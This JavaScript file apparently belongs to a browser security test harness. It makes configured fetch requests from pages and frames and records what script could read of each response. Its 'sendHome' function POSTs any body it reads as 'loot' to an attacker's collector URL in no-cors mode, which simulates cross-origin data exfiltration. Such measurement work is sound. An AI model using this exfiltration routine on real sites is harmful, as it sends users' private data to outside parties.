// What every page and frame runs. It makes the requests it is told to make and
// reports what JavaScript in that place got to see.
"use strict";

// attempt makes one request. The call gets the attempt's name as its function
// name: Chrome repeats it in the initiator of its network events, which ties the
// page's view and Chrome's view of a request together.
async function attempt(spec) {
  const view = { readable: false, status: 0, headers: [], body: "", error: "" };
  const abort = new AbortController();
  const timer = setTimeout(() => {
    spec.late = true;
    abort.abort("timeout");
  }, spec.timeout);
  const init = { ...spec.init, signal: abort.signal };
  if (spec.fill) init.body = "x".repeat(spec.fill);
  const named = { [spec.name]: () => fetch(spec.url, init) };
  try {
    view.unsent = true;
    new Request(spec.url, init); // throws where no page may send it
    view.unsent = false;
    const response = await named[spec.name]();
    if (response.type === "opaque" || response.type === "opaqueredirect") {
      view.error = "opaque response";
      return view;
    }
    view.readable = true;
    view.status = response.status;
    view.headers = [...response.headers].map(([name, value]) => ({ name, value }));
    for await (const text of read(response, spec.limit)) view.body += text;
  } catch (e) {
    view.error = String(e);
  } finally {
    clearTimeout(timer);
  }
  // What came of a body that broke off is loot too.
  if (spec.loot && view.body !== "") await sendHome(spec.loot, view.body);
  return view;
}

// read gives at most limit bytes of the body, piece by piece; the rest is not
// waited for.
async function* read(response, limit) {
  if (!response.body) return;
  const reader = response.body.getReader();
  const decoder = new TextDecoder();
  for (let size = 0; size < limit; ) {
    const { done, value } = await reader.read();
    if (done) {
      yield decoder.decode();
      return;
    }
    const part = value.subarray(0, limit - size);
    size += part.length;
    yield decoder.decode(part, { stream: true });
  }
  reader.cancel().catch(() => {});
}

// sendHome hands what was read to the attacker's collector. It needs no grant:
// a page may send where it likes, it may only not read. A failure shows as loot
// that did not arrive.
async function sendHome(collector, text) {
  await fetch(collector, { method: "POST", mode: "no-cors", body: text }).catch(() => {});
}

// all makes the requests, a bounded number at once, and keeps their order.
async function all(specs, parallel) {
  const views = new Array(specs.length);
  let next = 0;
  async function worker() {
    for (let i = next++; i < specs.length; i = next++) {
      views[i] = await (ways[specs[i].way] ?? attempt)(specs[i]);
      views[i].late = Boolean(specs[i].late);
    }
  }
  await Promise.all(Array.from({ length: parallel }, worker));
  return views;
}
